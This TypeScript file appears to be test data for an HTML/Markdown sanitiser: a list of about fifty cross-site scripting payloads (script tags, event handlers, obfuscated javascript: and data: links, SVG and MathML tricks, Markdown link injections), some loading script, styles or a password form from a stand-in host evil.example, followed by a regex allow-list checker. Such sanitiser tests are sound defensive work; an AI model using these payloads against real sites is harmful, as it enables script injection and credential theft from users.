/** Markup that tries to run a script, load a page or restyle the site. Test data. */
export const xssPayloads: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror="alert(1)"',
  '<p onmouseover=alert(1)>text</p>',
  '<h2 id=a autofocus tabindex=0 onfocus=alert(1)>text</h2>',
  "<h2 id='\"><img src=x onerror=alert(1)>'>text</h2>",
  '<a href="javascript:alert(1)">text</a>',
  '<a href="JaVaScRiPt:alert(1)">text</a>',
  '<a href="&#106;&#x61;vascript&colon;alert(1)">text</a>',
  '<a href="java&#9;script&NewLine;:alert(1)">text</a>',
  '<a href=" &#1; javascript:alert(1)">text</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">text</a>',
  '<a href="vbscript:msgbox(1)">text</a>',
  '<a href="/x" onclick="alert(1)" style="position:fixed" target=_blank>text</a>',
  '<a href=\'/x" onclick="alert(1)\'>text</a>',
  '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror=alert(1)&gt;">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src=javascript:alert(1)>',
  '<object data="data:text/html,x"></object><embed src=x>',
  '<style>@import "//evil.example/x.css"; body{display:none}</style>',
  '<link rel=stylesheet href=//evil.example/x.css><base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea><template><script>alert(1)</script></template>',
  '<div class="table-scroll" onscroll=alert(1) style=x aria-label=\'"><script>alert(1)</script>\'>x</div>',
  '<div class="modal table-scroll">x</div>',
  '<td background="javascript:alert(1)" style="width:expression(alert(1))">x</td>',
  '[text](javascript:alert(1))',
  '[text](JaVaScRiPt:alert(1))',
  '[text](&#x6A;avascript:alert(1))',
  '[text](javascript&colon;alert(1))',
  '[text](<java\tscript:alert(1)>)',
  '[text](data:text/html;base64,PHNjcmlwdD4=)',
  '[text](vbscript:alert(1) "title")',
  '[text](/x "onmouseover=alert(1)")',
  '[text](/x"onmouseover="alert(1))',
  '[[text](javascript:alert(1))](/x)',
  '<javascript:alert(1)>',
  '<https://a.example/"onmouseover="alert(1)>',
  '[text]\n\n[text]: javascript:alert(1)',
  '```"><script>alert(1)</script>\nx\n```',
  '`<img src=x onerror=alert(1)>`',
]

const safeTags = [
  /^<\/?(p|ul|ol|li|strong|em|blockquote|code|table|thead|tbody|tr|th|td|a|div)>$/,
  /^<hr\/>$/,
  /^<h[23]( id="[^"<>]*")?>$/,
  /^<\/(h2|h3|a|div)>$/,
  /^<a href="(https:\/\/|mailto:|tel:|\/(?![/\\]))[^"<>]*">$/,
  /^<div tabindex="0" role="region" aria-label="[^"<>]*">$/,
]

/**
 * The tags of an HTML text that do not literally have a safe form; empty when all do. It shares
 * nothing with the allow-list, so that a mistake there cannot hide here.
 */
export function unexpectedMarkup(html: string): string[] {
  const tags = html.match(/<[^>]*>?/g) ?? []
  return tags.filter((tag) => !safeTags.some((safe) => safe.test(tag)))
}
